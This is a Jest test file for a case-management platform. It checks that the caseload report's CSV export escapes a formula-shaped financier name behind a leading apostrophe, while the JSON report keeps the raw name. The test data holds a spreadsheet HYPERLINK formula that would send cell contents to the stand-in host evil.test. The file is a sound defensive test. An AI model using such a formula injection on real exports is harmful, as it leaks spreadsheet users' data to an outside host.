import { DossierModule } from '@nabij/dossier/api';
import { closeCase, makeCase } from '@nabij/dossier/api/testing';
import { IdentityModule } from '@nabij/identity/api';
import { makeAdmin, makeClient, makeWorker } from '@nabij/identity/api/testing';
import { createTestApp, makeOrganisation, TestApp } from '@nabij/platform/testing';
import { TimeModule } from '@nabij/time/api';
import { registerTime } from '@nabij/time/api/testing';
import { ReportsModule } from '../index';

jest.setTimeout(60_000);

// A financier's name is typed in by people; the CSV a team lead opens in a spreadsheet must not run it.
const HOSTILE_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Gemeente")';

describe('GET /api/reports/caseload?format=csv with a formula-shaped financier name', () => {
  let t: TestApp;
  let admin: string;

  beforeAll(async () => {
    t = await createTestApp({ imports: [IdentityModule, DossierModule, TimeModule, ReportsModule] });
    const org = await makeOrganisation(t, { financiers: [HOSTILE_NAME] });
    const client = await makeClient(t, { organisationId: org.organisationId, financierId: org.financierId });
    const worker = await makeWorker(t, { organisationId: org.organisationId, teamId: org.teamId });
    admin = (await makeAdmin(t, { organisationId: org.organisationId })).token;
    // A closed case of 2019 with more hours than a year of contacts, through the dossier and time services.
    const c = await makeCase(t, { worker, clientId: client.id, openedOn: '2019-03-01' });
    await closeCase(t, worker, c.id, { closedOn: '2019-03-20' });
    // 43 full days and 435 minutes: 62,355 minutes, written as 1039:15 (an entry holds at most a day).
    for (let n = 1; n <= 44; n++)
      await registerTime(t, worker, {
        caseId: c.id,
        contactType: 'face_to_face',
        minutes: n === 44 ? 435 : 1440,
        occurredOn: '2019-03-01',
      });
  });
  afterAll(() => t.close());

  it('exports the name as quoted text behind a leading apostrophe, with the hours unchanged', async () => {
    const res = await t
      .http()
      .get('/api/reports/caseload?from=2019-01-01&to=2019-12-31&format=csv')
      .set('Authorization', `Bearer ${admin}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const line = res.text.split('\n').find((l) => l.includes('HYPERLINK'));
    expect(line).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Gemeente"")",Algemeen MW,1,1039:15,0:00,1039:15,1039:15,19,0,0,0,,,,`);
  });

  it('keeps the plain name in the JSON report (only the CSV is for spreadsheets)', async () => {
    const res = await t.http().get('/api/reports/caseload?from=2019-01-01&to=2019-12-31').set('Authorization', `Bearer ${admin}`);
    expect(res.body.rows.map((r: { financier: string }) => r.financier)).toContain(HOSTILE_NAME);
  });
});
